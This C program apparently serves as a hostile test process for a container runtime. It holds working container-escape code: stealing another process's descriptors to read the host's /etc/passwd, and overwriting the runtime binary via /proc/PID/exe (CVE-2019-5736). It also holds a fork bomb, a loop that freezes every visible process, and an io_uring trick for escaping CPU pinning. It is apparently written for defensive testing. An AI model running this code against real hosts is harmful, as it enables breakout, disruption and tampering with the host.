/*
 * A container's own process, as an attacker would write it. Static, one word says what to try:
 *
 *   stalk [NAME]
 *              stops whatever is born in the container before it can do much, and says what can be had from it
 *   fork       as many processes as there can be, that wait
 *   freeze     stops every process it can see, again and again
 *   freeze orphaned
 *              the same, once whoever started it is gone, who would be stopped too, and waited for
 *   pin CPU    tries to leave its CPUs: sched_setaffinity(2) of itself, a thread of io_uring, and tells where it may run
 *   open FILE  opens it for reading, and for writing
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#define SYS_pidfd_getfd 438
#endif

static void show(const char *what, int pid, const char *file)
{
    char path[64], text[512];
    ssize_t got;

    snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
    got = readlink(path, text, sizeof text - 1);
    text[got < 0 ? 0 : got] = 0;
    printf("%s %s\n", what, got < 0 ? strerror(errno) : text);
}

static void rob_descriptors(int pid)
{
    char path[64];
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    struct dirent *entry;
    DIR *folder;

    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    folder = opendir(path);
    printf("descriptors %s\n", folder ? "seen" : strerror(errno));
    while (folder && (entry = readdir(folder))) {
        char name[80], secret[64] = "";
        int number = atoi(entry->d_name), taken, host;

        if (entry->d_name[0] == '.')
            continue;
        snprintf(name, sizeof name, "fd/%d", number);
        show(number > 2 ? "had" : "stream", pid, name);
        /* By either way a descriptor of the node's /proc leads to the node's root. */
        snprintf(name, sizeof name, "/proc/%d/fd/%d", pid, number);
        for (int way = 0; way < 2; way++) {
            taken = way ? open(name, O_PATH) : (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
            host = taken < 0 ? -1 : openat(taken, "1/root/etc/passwd", O_RDONLY);
            if (host >= 0 && read(host, secret, sizeof secret - 1) > 0)
                printf("ESCAPED to the host and its /etc/passwd, %.16s\n", secret);
            close(host);
            close(taken);
        }
    }
    if (folder)
        closedir(folder);
    close(pidfd);
}

/* CVE-2019-5736: the program of the one that came in, to be written once it runs no more. */
static void rob_program(int pid)
{
    char path[64], again[64], name[256];
    int program;
    ssize_t got;

    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    program = open(path, O_RDONLY);
    snprintf(again, sizeof again, "/proc/self/fd/%d", program);
    got = program < 0 ? -1 : readlink(again, name, sizeof name - 1);
    name[got < 0 ? 0 : got] = 0;
    printf("program %s\n", name);
    kill(pid, SIGCONT);
    if (!strstr(name, "nsexec-shim")) /* the container's own: nothing to gain, and perhaps another's file */
        return;
    for (int tries = 0; tries < 3000; tries++) {
        int writable = open(again, O_WRONLY);
        int error = writable >= 0 && write(writable, "\177", 1) == 1 ? 0 : errno;

        if (writable >= 0)
            close(writable);
        if (error != ETXTBSY) {
            printf("%s: %s\n", error ? "not written" : "WROTE its program", strerror(error));
            break;
        }
        usleep(1000);
    }
    close(program);
}

static void rob(int pid)
{
    char line[512];
    int fd;
    ssize_t got;

    printf("caught %d\n", pid);
    snprintf(line, sizeof line, "/proc/%d/cmdline", pid);
    fd = open(line, O_RDONLY);
    got = read(fd, line, sizeof line - 1);
    close(fd);
    for (ssize_t i = 0; i < got; i++)
        line[i] = line[i] ? line[i] : ' ';
    printf("words %.*s\n", got < 0 ? 0 : (int)got, line);
    rob_descriptors(pid);
    rob_program(pid);
}

static int last_pid(void)
{
    char text[128] = "";
    int fd = open("/proc/loadavg", O_RDONLY);

    if (read(fd, text, sizeof text - 1) < 0)
        return 0;
    close(fd);
    return atoi(strrchr(text, ' ') + 1);
}

static _Noreturn void stalk(void)
{
    printf("stalking\n");
    for (;;)
        for (int next = last_pid(), pid = next; pid < next + 4; pid++)
            if (pid > 1 && pid != getpid() && !kill(pid, SIGSTOP)) {
                rob(pid);
                kill(pid, SIGCONT);
                while (!kill(pid, 0))
                    usleep(1000);
            }
}

static _Noreturn void fork_all(void)
{
    int count = 0;

    while (fork() > 0)
        count++;
    if (count > 0 || errno) {
        printf("forked %d: %s\n", count, strerror(errno));
    }
    for (;;)
        pause();
}

static void wait_until_orphaned(void)
{
    sigset_t end;

    sigemptyset(&end);
    sigaddset(&end, SIGUSR1);
    sigprocmask(SIG_BLOCK, &end, NULL);
    prctl(PR_SET_PDEATHSIG, SIGUSR1);
    if (getppid() != 1)
        sigwaitinfo(&end, NULL);
}

static _Noreturn void freeze(void)
{
    printf("freezing\n");
    for (;;)
        kill(-1, SIGSTOP);
}

static void tell_cpus(const char *what)
{
    cpu_set_t cpus;

    if (sched_getaffinity(0, sizeof cpus, &cpus))
        return;
    printf("%s", what);
    for (int cpu = 0; cpu < CPU_SETSIZE; cpu++)
        if (CPU_ISSET(cpu, &cpus))
            printf(" %d", cpu);
    printf("\n");
}

static int pin(int cpu)
{
    struct io_uring_params parameters = {.flags = IORING_SETUP_SQPOLL | IORING_SETUP_SQ_AFF,
                                         .sq_thread_cpu = (unsigned)cpu};
    cpu_set_t wanted;
    int error;

    CPU_ZERO(&wanted);
    CPU_SET(cpu, &wanted);
    tell_cpus("before");
    error = sched_setaffinity(0, sizeof wanted, &wanted) ? errno : 0;
    printf("affinity %s\n", error ? strerror(error) : "taken");
    error = syscall(SYS_io_uring_setup, 4, &parameters) < 0 ? errno : 0;
    printf("io_uring %s\n", error ? strerror(error) : "taken");
    tell_cpus("after");
    return 0;
}

static int try_to_open(const char *file)
{
    static const int ways[] = {O_RDONLY, O_WRONLY};

    for (int way = 0; way < 2; way++) {
        int fd = open(file, ways[way] | O_NONBLOCK);
        printf("%s %s\n", way ? "write" : "read", fd < 0 ? strerror(errno) : "OPENED");
        close(fd);
    }
    return 0;
}

int main(int count, char **words)
{
    const char *what = count > 1 ? words[1] : "";

    setvbuf(stdout, NULL, _IOLBF, BUFSIZ);
    if (!strcmp(what, "stalk")) /* the name is for who looks for it */
        stalk();
    if (!strcmp(what, "fork"))
        fork_all();
    if (!strcmp(what, "freeze")) {
        if (count > 2)
            wait_until_orphaned();
        freeze();
    }
    if (!strcmp(what, "pin") && count == 3)
        return pin(atoi(words[2]));
    if (!strcmp(what, "open") && count == 3)
        return try_to_open(words[2]);
    return 2;
}
